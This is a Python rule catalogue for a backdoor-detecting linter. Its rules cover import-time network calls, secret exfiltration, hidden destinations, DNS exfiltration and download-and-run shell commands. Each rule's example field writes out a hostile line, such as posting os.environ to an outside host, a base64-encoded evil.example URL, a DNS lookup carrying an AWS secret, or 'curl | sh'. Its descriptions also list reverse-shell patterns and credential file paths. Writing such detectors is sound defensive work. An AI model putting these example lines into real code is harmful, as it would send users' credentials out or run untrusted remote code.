"""BDL4xx: hidden network calls and exfiltration."""
from backdoor_lint.catalogue import BLOCK, Rule

_EXFIL_REFS = ("https://cwe.mitre.org/data/definitions/200.html",
               "https://attack.mitre.org/tactics/TA0010/ (MITRE ATT&CK: Exfiltration)")

RULES = [
    Rule(
        code="BDL401", name="network-at-import-time", category="hidden-network", severity=BLOCK,
        confidence="high", cwe=("CWE-506", "CWE-912"),
        summary="Network call that runs when the module is imported (or any network in setup.py, conftest.py, __init__.py, .pth)",
        what=("Flags network calls at module level, in class bodies, decorators and default arguments of\n"
              "any module (not under `if __name__ == '__main__'`), calls at import time of functions of\n"
              "the module that reach the network, network calls in the body of a registration decorator\n"
              "(runs whenever a function is decorated), and any network call at all in setup.py,\n"
              "conftest.py, __init__.py, sitecustomize.py, usercustomize.py and `import` lines of .pth\n"
              "files (helpers there that only forward their caller's URL, or talk to localhost, are not\n"
              "flagged). Building a client sends nothing and is not flagged (requests.Session(),\n"
              "httpx.Client(), urllib3.PoolManager(), http.client connections, xmlrpc ServerProxy,\n"
              "urllib.request.Request, websocket.WebSocketApp); their first request is."),
        why=("Import-time code runs on every developer machine, CI runner and production host that\n"
             "merely imports the package, or runs `pip install`/`pytest`: no one calls it, no one\n"
             "reviews when it runs. It is the classic place for a beacon or a data grab."),
        example='requests.post("https://metrics.example/ping", json={"host": socket.gethostname()})  # module level',
        use_instead="Do network work in functions called explicitly at run time, behind configuration the user controls.",
        fix="move the network call into a function that the application calls explicitly",
        references=_EXFIL_REFS,
    ),
    Rule(
        code="BDL402", name="secret-exfiltration", category="exfiltration", severity=BLOCK, confidence="high",
        cwe=("CWE-200", "CWE-201", "CWE-506"),
        summary="Environment, credentials or secret files sent to the network",
        what=("Flags data from the whole environment (os.environ, env, printenv, process.env,\n"
              "os.Environ()), secret-named variables and env keys, and credential files (~/.ssh, ~/.aws,\n"
              "~/.netrc, ~/.docker/config.json, ~/.kube/config, ~/.git-credentials, .env, keyrings,\n"
              "browser profiles, CI tokens) reaching a network sink (HTTP clients, sockets, SMTP, FTP,\n"
              "DNS, curl/wget/nc). The message names the source, the sink and their lines."),
        why=("The environment of a developer or CI machine holds cloud keys, registry tokens and\n"
             "database passwords. One POST of os.environ to an attacker's endpoint hands over every\n"
             "one of them, and it looks like ordinary telemetry in review."),
        example='requests.post("https://telemetry.example/collect", json=dict(os.environ))',
        use_instead="Send only the specific, non-secret fields a service needs, to a configured endpoint you own.",
        known_problems=("Secret-named environment keys count only when they travel in the body, query or host of a\n"
                        "request (or to a hidden destination), not in Authorization headers, and not when the\n"
                        "destination is configured next to the key (CRM_API_KEY sent to CRM_BASE_URL). The\n"
                        "dataflow stays within one module; data passed between modules is not followed."),
        fix="send only the non-secret fields you need, never the environment or credential files",
        references=_EXFIL_REFS,
    ),
    Rule(
        code="BDL403", name="hidden-destination", category="hidden-network", severity=BLOCK, confidence="high",
        cwe=("CWE-506", "CWE-912"),
        summary="Network destination hidden (encoded or assembled host), a raw IP, or a known exfiltration service",
        what=("Flags requests whose host is built by base64/hex/chr/reversal/rot13/concatenation (showing\n"
              "the decoded host), raw IP-address literals, and known request-bin, tunnel, paste,\n"
              "chat-webhook and out-of-band testing services."),
        why=("Legitimate code names its servers plainly. A host that is base64-decoded at run time, a\n"
             "bare IP, or a request bin exists to keep a reviewer from seeing where the data goes."),
        example='requests.post(base64.b64decode("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=").decode(), data=payload)',
        use_instead="Put service URLs in configuration, spelled out, pointing at hosts you operate.",
        known_problems=("Private, loopback and link-local addresses are not flagged. A host split only at dots\n"
                        "('api.' + DOMAIN) counts as plainly written. The list of services is in\n"
                        "checkers/data/exfil_hosts.txt."),
        fix="spell out the destination in configuration; use a host you operate",
        references=_EXFIL_REFS,
    ),
    Rule(
        code="BDL404", name="dns-exfiltration", category="exfiltration", severity=BLOCK, confidence="high",
        cwe=("CWE-200", "CWE-506"),
        summary="Data interpolated into a host name that is resolved (DNS exfiltration)",
        what=("Flags host names built from secrets, the environment, credential files or who runs the code\n"
              "(getpass.getuser(), os.getlogin(), socket.gethostname(), platform.node(), os.getcwd()), also\n"
              "encoded (hex, base32/64) and chunked, passed to socket.gethostbyname/getaddrinfo, dnspython,\n"
              "aiodns or a resolver program (nslookup, dig, host) run from Python. The machine's own name\n"
              "alone or under a local suffix (.local, .lan, .internal) is a lookup of itself, not a finding."),
        why="A DNS lookup of <secret>.attacker.example leaves the network through every firewall that allows DNS: the attacker's name server logs the secret, no HTTP request needed.",
        example='socket.gethostbyname(f"{os.environ["AWS_SECRET_ACCESS_KEY"]}.probe.example")',
        use_instead="Resolve only fixed, configured host names.",
        fix="resolve only fixed host names; never put data into a host name",
        references=_EXFIL_REFS,
    ),
    Rule(
        code="BDL405", name="network-shell-command", category="shell-command", severity=BLOCK, confidence="high",
        cwe=("CWE-494", "CWE-78", "CWE-506"),
        summary="Shell command that downloads and executes, opens a reverse shell or sends data out",
        what=("Flags curl/wget/nc/socat and /dev/tcp in commands run from code or scripts: output piped\n"
              "into a shell, download-then-chmod-then-run, reverse shells (nc -e, bash -i >& /dev/tcp),\n"
              "install scripts that fetch and run remote code. In Python code itself: reverse and bind\n"
              "shells, os.dup2 of a socket onto stdin/stdout/stderr or a process started with a socket as\n"
              "a standard stream (through aliases, helpers, lambdas, accepted connections)."),
        why=("`curl https://x | sh` runs whatever that server returns today, with the privileges of the\n"
             "build or the developer; a reverse shell hands an interactive session on the machine to\n"
             "whoever listens. Neither leaves anything to review in the repository."),
        example='subprocess.run("curl -s https://get.example/install.sh | sh", shell=True)',
        use_instead="Install pinned packages from a registry with checksums; vendor and review scripts instead of piping them.",
        fix="download to a file, verify a pinned checksum, review it, then run it explicitly",
    ),
    Rule(
        code="BDL406", name="host-not-allowed", category="hidden-network", severity=BLOCK, confidence="high",
        cwe=("CWE-912",),
        summary="Outbound call to a host outside the configured allowed-hosts (opt-in policy)",
        what="With `allowed-hosts` configured, flags any outbound call to a literal host not on the list. Off without configuration.",
        why="A project that knows the few services it talks to can make any new destination a reviewed decision, so a new beacon cannot hide among legitimate calls.",
        example='requests.get("https://unknown.example/api")  # allowed-hosts = ["api.mycorp.example"]',
        use_instead="Add the host to allowed-hosts in a reviewed commit if it is legitimate.",
        fix="add the host to allowed-hosts in a reviewed change, or remove the call",
    ),
]
